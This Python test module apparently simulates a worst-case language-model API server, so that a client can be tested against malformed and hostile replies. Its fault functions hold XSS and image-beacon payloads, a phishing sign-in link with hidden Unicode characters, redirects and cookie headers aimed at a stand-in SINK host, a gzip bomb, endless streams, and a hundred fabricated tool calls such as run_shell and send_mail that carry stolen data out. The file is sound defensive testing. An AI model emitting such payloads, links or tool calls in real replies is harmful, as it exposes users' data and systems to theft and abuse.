"""From a request to a reply on the wire: a saying told properly, or one of the ways to break the protocol. No sockets."""

from __future__ import annotations

import gzip
import itertools
import json
import random
from collections.abc import Callable, Iterable, Iterator
from typing import Literal, NamedTuple

from tests.worst_case_model.asked import Asked
from tests.worst_case_model.behaviours import SAYINGS
from tests.worst_case_model.payloads import SINK, controls
from tests.worst_case_model.shapes import SHAPES, Shape, shape_of

JSON = "application/json"


class Reply(NamedTuple):
    """What goes over the wire. `ending`: properly, broken off, or dripping on until the listener leaves."""

    status: int
    kind: str
    chunks: Iterable[bytes]
    ending: Literal["clean", "cut", "drip"] = "clean"
    headers: tuple[tuple[str, str], ...] = ()


Fault = Callable[[Asked, Shape], Reply]


def answer(path: str, body: bytes) -> tuple[Asked, Reply]:
    """Answer a request as the behaviour named in its `model` says."""
    shape = shape_of(path)
    try:
        request = json.loads(body or b"{}")
    except ValueError:
        request = {}
    if shape is None or not isinstance(request, dict):
        return Asked((body.decode("utf-8", "replace"),)), Reply(404, JSON, (b'{"error": "no such path"}',))
    asked = shape.read(path, request)
    if asked.model in FAULTS:
        return asked, FAULTS[asked.model](asked, shape)
    if asked.model not in SAYINGS:
        return asked, Reply(404, JSON, (b'{"error": "no such behaviour"}',))
    return asked, told(shape, asked, SAYINGS[asked.model](asked))


def told(shape: Shape, asked: Asked, pieces: Iterable[str], **said: object) -> Reply:
    """Tell text by the rules of the protocol."""
    if asked.streams:
        return Reply(200, shape.stream_type, _torn(shape.streamed(pieces, said)))
    text = "".join(itertools.islice(pieces, 100_000))
    return Reply(200, JSON, (shape.whole(text, said),))


def _torn(chunks: Iterable[bytes]) -> Iterator[bytes]:
    """Tear a stream at places that mean nothing."""
    draw = random.Random(7)
    for chunk in chunks:
        at = draw.randrange(1, len(chunk)) if len(chunk) > 1 else 1
        yield chunk[:at]
        yield chunk[at:]


# --- faults ---


def broken_json(asked: Asked, _shape: Shape) -> Reply:
    return Reply(200, JSON, (b'{"choices": [{"message": {"content": "' + asked.loot.encode() + b'"',))


def broken_event(asked: Asked, shape: Shape) -> Reply:
    return Reply(200, shape.stream_type, (b'data: {"choices": [{"delta": {"content": "' + asked.loot.encode(), b"\n\n"))


def deep_json(_asked: Asked, _shape: Shape) -> Reply:
    return Reply(200, JSON, (b"[" * 200_000,))


def wrong_kind(asked: Asked, _shape: Shape) -> Reply:
    page = f"<html><script>alert(1)</script><img src=https://{SINK}/{asked.loot}></html>"
    return Reply(200, "text/html", (page.encode(),))


def wrong_shape(asked: Asked, _shape: Shape) -> Reply:
    return Reply(
        200, JSON, (json.dumps({"choices": {"message": [asked.context]}, "message": 7, "candidates": "x"}).encode(),)
    )


def no_kind(asked: Asked, _shape: Shape) -> Reply:
    return Reply(200, "", (asked.context.encode(),))


def fault_with_context(asked: Asked, _shape: Shape) -> Reply:
    """The context, in the words of an error."""
    return Reply(500, JSON, (json.dumps({"error": {"message": asked.loot + controls(asked)}}).encode(),))


def refused_with_link(asked: Asked, _shape: Shape) -> Reply:
    said = f"Your key ended. Sign in at https://{SINK}/?q={asked.loot} <img src=https://{SINK}> \u202e\u200b\U000e0041"
    return Reply(401, JSON, (json.dumps({"error": {"message": said}}).encode(),))


def fault_event(asked: Asked, shape: Shape) -> Reply:
    return Reply(
        200, shape.stream_type, (b"data: " + json.dumps({"error": {"message": controls(asked)}}).encode() + b"\n\n",)
    )


def redirect(_asked: Asked, _shape: Shape) -> Reply:
    return Reply(307, JSON, (), headers=(("Location", f"http://{SINK}/v1/chat/completions"),))


def cookies(asked: Asked, shape: Shape) -> Reply:
    """A proper answer with headers that would be obeyed elsewhere."""
    reply = told(shape, asked, (f"CLAIM: x\n{asked.true_quote()}",))
    odd = (
        ("Set-Cookie", "storyroom=owner; Path=/"),
        ("Refresh", f"0;url=https://{SINK}"),
        ("Link", f"<https://{SINK}>; rel=preload"),
    )
    return reply._replace(headers=odd)


def bomb(_asked: Asked, _shape: Shape) -> Reply:
    packed = gzip.compress(b" " * 50_000_000)
    return Reply(200, JSON, (packed,), headers=(("Content-Encoding", "gzip"),))


def endless_json(_asked: Asked, _shape: Shape) -> Reply:
    return Reply(200, JSON, (b'{"choices": [' + b" " * 60_000 if n == 0 else b" " * 60_000 for n in itertools.count()))


def endless_event(_asked: Asked, shape: Shape) -> Reply:
    return Reply(
        200, shape.stream_type, (b"data: " + b"x" * 60_000 if n == 0 else b"x" * 60_000 for n in itertools.count())
    )


def endless_comments(_asked: Asked, shape: Shape) -> Reply:
    return Reply(200, shape.stream_type, (b": thinking\n\n" * 1_000 for _ in itertools.count()))


def disconnect(_asked: Asked, _shape: Shape) -> Reply:
    return Reply(200, JSON, (), ending="cut")


def break_off(asked: Asked, shape: Shape) -> Reply:
    chunks = list(shape.streamed((f"CLAIM: {asked.loot}\n{asked.true_quote()}\n",), {}))[:-2]
    return Reply(200, shape.stream_type, chunks, ending="cut")


def drip(_asked: Asked, shape: Shape) -> Reply:
    return Reply(200, shape.stream_type, (b":",), ending="drip")


def tool_calls(asked: Asked, shape: Shape) -> Reply:
    """A hundred calls of tools that nobody offered, and a claim."""
    return told(shape, asked, (f"CLAIM: Done.\n{asked.true_quote()}",), tools=many_calls(asked, 100))


def only_tool_calls(asked: Asked, shape: Shape) -> Reply:
    return told(shape, asked, (), tools=many_calls(asked, 100))


def hidden_fields(asked: Asked, shape: Shape) -> Reply:
    """The context in every field that a client might show."""
    message = dict.fromkeys(
        ("reasoning_content", "reasoning", "thinking", "refusal_reason", "name", "annotations"), asked.context
    )
    images = {"images": [{"image_url": {"url": f"https://{SINK}/{asked.loot}"}}], "audio": {"data": asked.loot}}
    return told(shape, asked, (f"CLAIM: x\n{asked.true_quote()}",), message=message | images)


def filtered(asked: Asked, shape: Shape) -> Reply:
    return told(shape, asked, (asked.loot,), finish="content_filter")


_TOOLS = (
    "export", "share", "delete_draft", "relabel", "grant", "revoke", "import_files", "add_person", "rebuild", "http_get",
    "write_file", "run_shell", "send_mail", "set_setting", "sign_in", "verify",
)  # fmt: skip


def many_calls(asked: Asked, count: int) -> list[tuple[str, dict[str, object]]]:
    """Call tools with what was stolen."""
    given = {"to": f"https://{SINK}/", "label": "public", "person": "reader", "what": asked.loot, "confirm": True}
    return [(_TOOLS[n % len(_TOOLS)], {**given, "n": n}) for n in range(count)]


FAULTS: dict[str, Fault] = {
    made.__name__: made
    for made in (
        broken_json, broken_event, deep_json, wrong_kind, wrong_shape, no_kind, fault_with_context, refused_with_link,
        fault_event, redirect, cookies, bomb, endless_json, endless_event, endless_comments, disconnect, break_off, drip,
        tool_calls, only_tool_calls, hidden_fields, filtered,
    )
}  # fmt: skip

BEHAVIOURS = (*SAYINGS, *FAULTS)
"""Every name that `model` may have."""

__all__ = ["BEHAVIOURS", "FAULTS", "SHAPES", "Reply", "answer", "many_calls", "told"]
